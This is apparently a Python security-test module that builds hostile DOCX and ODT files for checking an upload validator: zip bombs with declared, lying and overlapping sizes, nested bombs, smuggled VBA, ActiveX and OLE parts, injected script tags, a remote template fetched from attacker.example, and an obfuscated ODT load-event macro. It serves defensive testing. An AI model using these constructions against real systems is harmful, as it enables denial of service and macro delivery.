"""The office documents of tests/security/uploads_payloads.py, written byte by byte: zip bombs
shaped as DOCX and ODT (declared, lying and overlapping), macros, embedded programs and
documents nested in documents. Split from the catalogue so each file holds one kind of file."""

import struct
import zlib
from dataclasses import dataclass

from grants.core import upload_office
from tests.applications.factories import DOCX_MAIN, ODF_CONTENT

MB = 1024 * 1024

# ---- zips, byte by byte (zipfile cannot write a lying or overlapping archive) -----------------


@dataclass
class Part:
    name: str
    data: bytes = b""
    zeros: int = 0  # or this many zero bytes, deflated as a stream (never held in memory)
    stored: bool = False
    declare_size: int | None = None  # lie about the opened size (and give the matching checksum)
    flags: int = 0
    hidden: bytes = b""  # bytes after the packed data, inside the part's packed size
    crc_xor: int = 0  # spoil the checksum


def _deflate(part: Part) -> tuple[bytes, int, int]:
    if part.stored:
        return part.data, len(part.data), zlib.crc32(part.data)
    if not part.zeros:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(part.data) + packer.flush(), len(part.data), zlib.crc32(part.data)
    packer, crc, out, block = zlib.compressobj(9, zlib.DEFLATED, -15), 0, [], bytes(MB)
    for start in range(0, part.zeros, MB):
        chunk = block[: min(MB, part.zeros - start)]
        out.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    out.append(packer.flush())
    return b"".join(out), part.zeros, crc


def local_header(name: bytes, method: int, crc: int, csize: int, usize: int, flags: int = 0) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, csize, usize, len(name), 0) + name


def raw_zip(parts: list[Part], *, extra_central: list[tuple] = ()) -> bytes:
    """The parts in order, then a central directory listing them (and `extra_central` records:
    name, method, crc, csize, usize, offset, flags), then the end record."""
    out, central = bytearray(), []
    for part in parts:
        data, usize, crc = _deflate(part)
        method = 0 if part.stored else 8
        if part.declare_size is not None:
            usize, crc = part.declare_size, zlib.crc32(bytes(part.declare_size))
        data, crc, name = data + part.hidden, crc ^ part.crc_xor, part.name.encode()
        central.append((name, method, crc, len(data), usize, len(out), part.flags))
        out += local_header(name, method, crc, len(data), usize, part.flags) + data
    start = len(out)
    for name, method, crc, csize, usize, offset, flags in [*central, *extra_central]:
        sizes = (crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset)
        out += struct.pack("<4s6H3L5HLL", b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, *sizes) + name
    count = len(central) + len(extra_central)
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(out) - start, start, 0)
    return bytes(out)


CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>{{extra}}</Types>'
)
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def docx(*parts: Part, extra_types: str = "") -> bytes:
    return raw_zip(
        [
            Part("[Content_Types].xml", CONTENT_TYPES.format(extra=extra_types).encode()),
            Part("word/document.xml", DOCUMENT),
            *parts,
        ]
    )


def odt(*parts: Part, body: str = "") -> bytes:
    return raw_zip(
        [
            Part("mimetype", b"application/vnd.oasis.opendocument.text", stored=True),
            Part("content.xml", ODF_CONTENT.format(body=body).encode()),
            *parts,
        ]
    )


def declared_bomb() -> bytes:
    """The reported attack: 300 MB of document in about 300 KB."""
    return docx(Part("word/document2.xml", zeros=300 * MB))


def dense_part() -> bytes:
    """One 50 MB part packed about 1,000 times: under the total, over the ratio."""
    return docx(Part("word/media/image1.xml", zeros=50 * MB))


def many_megabytes() -> bytes:
    """110 parts of exactly 1 MB each (each under the size the ratio applies from): the total."""
    return docx(*(Part(f"word/media/part{i}.xml", zeros=MB) for i in range(110)))


def many_parts() -> bytes:
    return docx(*(Part(f"customXml/item{i}.xml") for i in range(upload_office.MAX_MEMBERS)))


def lying_header() -> bytes:
    """A part declaring 8,000 bytes (with the checksum of 8,000 zero bytes) that inflates to 5 MB:
    every number in the directory looks harmless."""
    return docx(Part("word/media/image1.xml", zeros=5 * MB, declare_size=8000))


def overlapping() -> bytes:
    """Two directory entries over the same bytes: part A (stored) holds part B's header and data,
    each consistent on its own (the overlapping kind of zip bomb, in small)."""
    inner_data = bytes(4000)
    inner_name = b"word/media/b.xml"
    inner = local_header(inner_name, 0, zlib.crc32(inner_data), len(inner_data), len(inner_data)) + inner_data
    archive = docx(Part("word/media/a.xml", inner, stored=True))
    b_offset = archive.index(b"word/media/a.xml") + len(b"word/media/a.xml")  # where part A's data starts
    extra = [(inner_name, 0, zlib.crc32(inner_data), len(inner_data), len(inner_data), b_offset, 0)]
    parts = [
        Part("[Content_Types].xml", CONTENT_TYPES.format(extra="").encode()),
        Part("word/document.xml", DOCUMENT),
        Part("word/media/a.xml", inner, stored=True),
    ]
    return raw_zip(parts, extra_central=extra)


def appended_to_docx() -> bytes:
    return docx() + b"<html><script>alert(1)</script></html>"


def docm_renamed() -> bytes:
    """A .docm's main part type, renamed .docx (its VBA project is the next payload)."""
    return raw_zip(
        [
            Part(
                "[Content_Types].xml",
                CONTENT_TYPES.replace(DOCX_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
                .format(extra="")
                .encode(),
            ),
            Part("word/document.xml", DOCUMENT),
        ]
    )


def vba_smuggled() -> bytes:
    return docx(Part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA"))


def activex() -> bytes:
    return docx(Part("word/activeX/activeX1.bin", b"\xd0\xcf\x11\xe0 control"))


def ole_object() -> bytes:
    return docx(Part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 Package MZ"))


def ole_by_type() -> bytes:
    return docx(
        Part("word/media/object1.dat", b"\xd0\xcf\x11\xe0 Package MZ"),
        extra_types='<Override PartName="/word/media/object1.dat" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    )


def twin_parts() -> bytes:
    """Two parts by one name: which one a reader takes is up to the reader."""
    return raw_zip(
        [
            Part("[Content_Types].xml", CONTENT_TYPES.format(extra="").encode()),
            Part("word/document.xml", DOCUMENT),
            Part("word/document.xml", b"<w:document><w:body><w:p>other</w:p></w:body></w:document>"),
        ]
    )


def part_in_front() -> bytes:
    """A part the directory does not list, in front of the document: a web page, for a reader
    that reads local headers from the start."""
    page = b"<html><script>alert(1)</script></html>"
    return local_header(b"index.html", 0, zlib.crc32(page), len(page), len(page)) + page + docx()


def encrypted_part() -> bytes:
    return docx(Part("word/media/secret.xml", b"<x/>", flags=0x1))


def hidden_in_a_part() -> bytes:
    return docx(Part("word/media/image1.xml", b"<x/>", hidden=b"<html><script>alert(1)</script></html>"))


def renamed_local_header() -> bytes:
    data = docx(Part("word/media/image1.xml", b"<x/>"))
    at = data.index(b"word/media/image1.xml")  # the local header's copy comes first
    return data[:at] + b"word/media/image1.xmL" + data[at + len(b"word/media/image1.xml") :]


def spoiled_checksum() -> bytes:
    return docx(Part("word/media/image1.xml", b"<x/>", crc_xor=0xFF))


def large_embedded() -> bytes:
    """An embedded workbook over 20 MB (packed about ten times: no bomb)."""
    import random

    noise = random.Random(20)
    body = b"".join(noise.randbytes(100) + bytes(924) for _ in range(21 * 1024))
    inner = raw_zip([Part("xl/worksheets/sheet1.xml", body, stored=True)])
    return docx(Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner))


def remote_template() -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(Part("word/_rels/settings.xml.rels", rels.encode()))


def nested_macros() -> bytes:
    return docx(Part("word/embeddings/Microsoft_Word_Document.docx", vba_smuggled()))


def nested_bomb() -> bytes:
    return docx(Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", dense_part()))


def nested_total() -> bytes:
    """60 MB in the document and 60 MB in the workbook embedded in it, in 1 MB parts (each under
    the ratio's floor): each under the limit alone, over it together."""
    inner = docx(*(Part(f"xl/media/part{i}.xml", zeros=MB) for i in range(60)))
    return docx(
        Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner),
        *(Part(f"word/media/p{i}.xml", zeros=MB) for i in range(60)),
    )


def nested_twice() -> bytes:
    inner = docx(Part("word/embeddings/Inner.docx", docx()))
    return docx(Part("word/embeddings/Outer.docx", inner))


def odt_basic() -> bytes:
    return odt(Part("Basic/Standard/Module1.xml", b"<script:module/>"))


def odt_event_macro() -> bytes:
    """A macro bound to the document's load event, its URL hidden from a byte search by a
    character reference (&#46; is a full stop once parsed)."""
    listener = (
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd&#46;sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners>"
    )
    return odt(body=listener)
